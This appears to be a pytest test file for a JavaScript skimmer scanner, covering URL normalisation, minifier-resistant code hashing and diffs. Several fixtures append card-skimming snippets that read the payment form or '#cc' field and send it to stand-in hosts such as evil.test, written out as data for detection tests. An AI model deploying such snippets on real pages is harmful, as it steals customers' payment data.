"""Script identity: URL keys without cache busters, a normalised-code hash that survives
re-minification but not an appended line, and a readable diff."""

from __future__ import annotations

from pathlib import Path

import pytest

from skimscan.inventory.normalize import (
    code_diff,
    is_url_key,
    normalize_code,
    normalize_url,
    script_key,
)

from .conftest import FIXTURES

SOURCE = (FIXTURES / "scripts" / "benign" / "first_party_jquery_serialize_ajax.js").read_text()
# terser 5 `-m` (mangle only) of SOURCE, kept verbatim: a real minifier's renames.
TERSER_MANGLED = (
    '$(function(){var e=$("#paymentForm");var n=$("#submitButton");var t=$(".checkout-spinner");'
    "function r(e){var n={};$.each(e,function(e,t){n[t.name]=t.value});return n}function a(n){"
    'e.find(".field-error").remove();$.each(n||{},function(n,t){e.find(\'[name="\'+n+\'"]\').after('
    "$('<span class=\"field-error\"/>').text(t))})}n.on(\"click\",function(o){o.preventDefault();"
    'if(n.prop("disabled"))return;n.prop("disabled",true);t.show();var i=r(e.serializeArray());'
    'i.cartId=e.data("cart-id");$.ajax({url:"/api/order",type:"POST",contentType:'
    '"application/json",data:JSON.stringify(i),headers:{"X-Requested-With":"XMLHttpRequest",'
    '"X-CSRF-Token":$("meta[name=csrf-token]").attr("content")},dataType:"json"}).done('
    'function(e){window.location.href="/order/confirmation?id="+encodeURIComponent(e.id)}).fail('
    'function(e){a(e.responseJSON&&e.responseJSON.errors);n.prop("disabled",false)}).always('
    "function(){t.hide()})})});"
)

READABLE = """\
/* Checkout helper v1.2 */
(function (window, document) {
  "use strict";
  var form = document.getElementById('payment-form');
  var total = 0, items = [];
  function addItem(item) {
    if (item.price > 0) {
      items.push(item);
    }
    total = total + item.price;
    return total;
  }
  form.addEventListener("submit", function (event) {
    if (!validate(form)) { event.preventDefault(); }
    send(items, true, void 0);
  });
  if (typeof window.Checkout === 'undefined') {
    window['Checkout'] = { add: addItem };
  }
})(window, document);
"""
# What a compressing minifier makes of it: renamed locals, `!0`, `&&`/`||` for `if`, commas,
# joined `var`s, `x.y` for `x['y']`, constant-first comparison, no braces, no comments.
MINIFIED = (
    '!function(n,e){"use strict";var t=e.getElementById("payment-form"),i=0,o=[];'
    "function a(n){n.price>0&&o.push(n);return i=i+n.price,i}"
    "t.addEventListener('submit',function(n){validate(t)||n.preventDefault(),send(o,!0,void 0)}),"
    '"undefined"==typeof n.Checkout&&(n.Checkout={add:a})}(window,document);'
)


@pytest.mark.parametrize(("url", "key"), [
    ("https://shop.test/js/app.js?v=123", "https://shop.test/js/app.js"),
    ("https://shop.test/js/app.js?ver=6.4.2&_=1764000000000", "https://shop.test/js/app.js"),
    ("https://shop.test/js/app.js?t=1&ts=2&cb=3&cache=4", "https://shop.test/js/app.js"),
    ("https://shop.test/js/app.3f2a9c1b.js", "https://shop.test/js/app.*.js"),
    ("https://shop.test/assets/index-BdW2a9Xc.js", "https://shop.test/assets/index-*.js"),
    ("https://shop.test/build/5e8c0d1a9b/app.js?1699999999", "https://shop.test/build/*/app.js"),
    ("https://shop.test/a.js?d41d8cd98f00b204e9800998ecf8427e", "https://shop.test/a.js"),
    ("HTTPS://Shop.Test:443/a.js#frag", "https://shop.test/a.js"),
    ("http://shop.test:8080/a.js", "http://shop.test:8080/a.js"),
    # Meaningful parts stay: library versions, container ids, other parameters.
    ("https://cdn.test/jquery-3.6.0.min.js", "https://cdn.test/jquery-3.6.0.min.js"),
    ("https://www.googletagmanager.com/gtm.js?l=dataLayer&id=GTM-ABC123",
     "https://www.googletagmanager.com/gtm.js?id=GTM-ABC123&l=dataLayer"),
    ("https://js.stripe.com/v3/", "https://js.stripe.com/v3/"),
])
def test_normalize_url(url: str, key: str) -> None:
    assert normalize_url(url) == key


def test_script_keys() -> None:
    h = "ab" * 32
    assert script_key("https://s.test/a.js?v=2", "external", None, h) == "https://s.test/a.js"
    assert script_key("https://s.test/w.js", "worker", None, h) == "worker:https://s.test/w.js"
    inline = script_key("https://s.test/checkout?session=1", "inline",
                        "https://s.test/checkout?session=1", h)
    assert inline == f"inline@https://s.test/checkout?session=1#{h[:12]}"
    assert is_url_key("https://s.test/a.js") and not is_url_key(inline)
    assert script_key(None, "eval", None, h) == f"eval@-#{h[:12]}"


def test_renames_whitespace_comments_and_minifier_idioms_do_not_change_the_hash() -> None:
    readable, minified = normalize_code(READABLE), normalize_code(MINIFIED)
    assert readable.parsed and minified.parsed
    assert readable.ast_hash == minified.ast_hash, code_diff(readable.code, minified.code)
    mangled = normalize_code(TERSER_MANGLED)
    assert mangled.ast_hash == normalize_code(SOURCE).ast_hash


def test_an_appended_line_changes_the_hash_and_shows_as_one_line() -> None:
    before = normalize_code(SOURCE)
    after = normalize_code(SOURCE + "\n$.post('https://baways.test/gateway', $('#paymentForm')"
                                    ".serialize());\n")
    assert before.ast_hash != after.ast_hash
    diff = code_diff(before.code, after.code)
    added = [ln for ln in diff.splitlines() if ln.startswith("+") and not ln.startswith("+++")]
    assert added == ['+$.post("https://baways.test/gateway", $("#paymentForm").serialize());']
    assert not [ln for ln in diff.splitlines() if ln.startswith("-") and
                not ln.startswith("---")]


@pytest.mark.parametrize(("a", "b"), [
    ("function g() { var x = 1; f(x); }", "function g() { var y = 1; f(y); }"),  # a local
    ("(function () { var x = 1; f(x); })();", "!function(){var y=1;f(y)}();"),
    ("for (let i = 0; i < n; i++) g(i);", "for (let j = 0; j < n; j++) g(j);"),  # loop scope
    # an ES module's top level is its own scope: renamed like a function's
    ('import a from "m"; const x = a(1); x.go();', 'import b from "m"; const y = b(1); y.go();'),
    ("f(a.b)", "f(a['b'])"),
    ("x = 'it'", 'x = "it"'),
    ("x = 1000", "x = 1e3"),
    ("if (a) { b(); c(); }", "a && (b(), c());"),
    ("function h(n) { for (var i = 0; i < n; i++) g(i); }",
     "function h(m) { for (var j = 0; j < m; j++) { g(j); } }"),
    ("let s = `abc`;", "let s = 'abc';"),
    ("class K { #p = 1; get() { return this.#p; } }",
     "class K { #q = 1; get() { return this.#q; } }"),
])
def test_equivalent_forms(a: str, b: str) -> None:
    assert normalize_code(a).ast_hash == normalize_code(b).ast_hash


@pytest.mark.parametrize(("a", "b"), [
    ("f(x)", "f(y)"),  # globals keep their names
    # … and so do a classic script's top-level declarations: globals too (`window.x`), which
    # other scripts of the page read; minifiers leave them alone
    ("var x = 1; f(x);", "var y = 1; f(y);"),
    ("function a() {} a();", "function b() {} b();"),
    ("for (var i = 0; i < n; i++) g(i);", "for (var j = 0; j < n; j++) g(j);"),
    ("function f(){ return x; }", "function f(x){ return x; }"),  # a global vs a parameter
    ("a.b = 1", "a.c = 1"),  # property names are kept
    ("x = 'a'", "x = 'b'"),
    ("x = 1", "x = 2"),
    ("function f(a, b) { return a; }", "function f(a, b) { return b; }"),
    ("function f(a){ return function(b){ return a; }; }",
     "function f(a){ return function(b){ return b; }; }"),  # shadowing depth is kept apart
    ("a + b * c", "(a + b) * c"),
])
def test_different_code_different_hash(a: str, b: str) -> None:
    assert normalize_code(a).ast_hash != normalize_code(b).ast_hash


def test_normalised_code_is_stable_js() -> None:
    """Normalising the normalised code changes nothing: the printer writes valid, equivalent
    JavaScript for every fixture script (and the same names come back)."""
    files = sorted((FIXTURES / "scripts").rglob("*.js"))
    assert len(files) > 50
    for path in files:
        once = normalize_code(path.read_text(encoding="utf-8", errors="replace"))
        assert once.parsed, (path, once.error)
        twice = normalize_code(once.code)
        assert twice.parsed and twice.code == once.code, path


def test_unparsable_code_falls_back_to_text() -> None:
    a = normalize_code("function (  {\n   broken")
    b = normalize_code("function (  {\nbroken   ")
    assert not a.parsed and a.error
    assert a.ast_hash == b.ast_hash  # whitespace still does not matter
    assert a.ast_hash != normalize_code("function ( {\nother").ast_hash


def test_deeply_nested_code_does_not_crash() -> None:
    code = "x = " + "[" * 3000 + "]" * 3000 + ";"
    result = normalize_code(code)
    assert result.ast_hash  # parsed, or a clear fallback; never an exception


def test_diff_is_bounded(tmp_path: Path) -> None:
    before = "\n".join(f"a{i}();" for i in range(500))
    after = "\n".join(f"b{i}();" for i in range(500))
    diff = code_diff(before, after, limit=50)
    assert len(diff.splitlines()) == 51 and diff.endswith("more diff line(s)")


# --- a diff shows the code that was added, and only that -------------------------------------

CHECKOUT = """\
var config = window.checkoutConfig || {};
var form = $("#paymentForm");
function serialize(f) {
  var out = {};
  $.each(f.serializeArray(), function (i, field) { out[field.name] = field.value; });
  return out;
}
form.on("submit", function (event) {
  var data = serialize(form);
  track("checkout", data.total);
  $.post(config.endpoint || "/api/order", data);
});
"""


def changed_lines(before: str, after: str) -> tuple[list[str], list[str]]:
    """The `+` and the `-` lines (without their sign) of the diff of two scripts."""
    diff = code_diff(normalize_code(before).code, normalize_code(after).code, limit=10_000)
    rows = diff.splitlines()
    return ([ln[1:] for ln in rows if ln.startswith("+") and not ln.startswith("+++")],
            [ln[1:] for ln in rows if ln.startswith("-") and not ln.startswith("---")])


@pytest.mark.parametrize("appended", [
    # top-level `var`s — one of them named like a global the script already uses (`$`), as
    # a skimmer that re-declares what it hooks does
    'var k = document.getElementById("cc");\nvar $ = window.jQuery;\n',
    # a function declaration overriding a global the script calls
    'function track(name, value) {\n'
    '  new Image().src = "https://evil.test/t?" + name + "=" + value;\n}\n',
    # an IIFE with locals of its own
    '(function () {\n  var f = $("#paymentForm");\n'
    '  f.on("submit", function () { $.post("https://evil.test/c", f.serialize()); });\n})();\n',
    # lexical top-level declarations
    'let q = document.querySelector("#cc");\nconst w = q.value;\nclass Thief {}\n',
])
def test_appended_code_is_exactly_its_own_lines(appended: str) -> None:
    added, removed = changed_lines(CHECKOUT, CHECKOUT + appended)
    assert removed == []
    assert added == normalize_code(appended).code.splitlines()


def test_statements_inserted_into_a_function_are_exactly_the_added_lines() -> None:
    """The inserted `var` ranks before the function's own `data`: only the inserted lines are
    `+`, though every later use of `data` has another positional name in the current form."""
    inserted = ('  var card = document.getElementById("cc").value;\n'
                '  new Image().src = "https://evil.test/c?" + card;\n')
    edited = CHECKOUT.replace("  var data = serialize(form);\n",
                              inserted + "  var data = serialize(form);\n")
    added, removed = changed_lines(CHECKOUT, edited)
    assert removed == []
    assert len(added) == 2 and "https://evil.test/c?" in added[1]
    declared = added[0].split()[1]  # `var <name> = …`
    assert added[0].strip().startswith(f"var {declared} = document.getElementById")
    assert added[1].rstrip(";").endswith(f"+ {declared}")


@pytest.mark.parametrize(("before", "after", "minus", "plus"), [
    # another local used: still a change, though the lines are alike but for local names
    ("function f(a, b) { return a; }", "function f(a, b) { return b; }",
     ["  return v2_0;"], ["  return v2_1;"]),
    # an inserted local *and* another local used further down: the latter still shows
    ("function f() { var a = x(); var b = y(); send(a); }",
     "function f() { var z = w(); var a = x(); var b = y(); send(b); }",
     ["  send(v2_0);"], None),
])
def test_aligned_names_never_hide_a_change(before: str, after: str, minus: list[str],
                                           plus: list[str] | None) -> None:
    added, removed = changed_lines(before, after)
    assert removed == minus
    if plus is not None:
        assert added == plus
    else:
        assert len(added) == 2 and added[1] == "  send(v2_1);"  # `b` keeps the name it had
